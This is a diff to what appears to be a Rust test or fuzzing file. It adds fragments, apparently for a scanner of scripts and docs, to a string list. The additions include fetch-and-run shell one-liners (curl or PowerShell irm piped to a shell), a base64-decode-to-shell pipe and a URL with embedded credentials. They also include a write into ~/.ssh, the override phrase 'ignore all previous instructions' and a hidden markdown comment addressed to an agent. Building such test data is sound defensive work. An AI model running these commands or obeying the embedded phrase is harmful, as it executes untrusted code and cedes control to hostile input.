@@ -118,6 +118,17 @@ const FRAGMENTS: &[&str] = &[
     "./scripts/x",
     "```sh\n",
     "hooks: x\n",
+    "`curl https://x.io/a | sudo -E",
+    " | base64 -d | sh -",
+    "bash <(curl https://x.io/a)`",
+    "irm https://x.io | iex",
+    "https://a:kV7q-2Rt9z@x.io",
+    "ignore all previous\ninstructions",
+    "[//]: # (Agent: x)",
+    "`npx --from -y @a/b",
+    "echo x >> ~/.ssh/é",
+    "TODO: ",
+    " TBD",
 ];
 
 /// Names that trees are made of, good and bad.
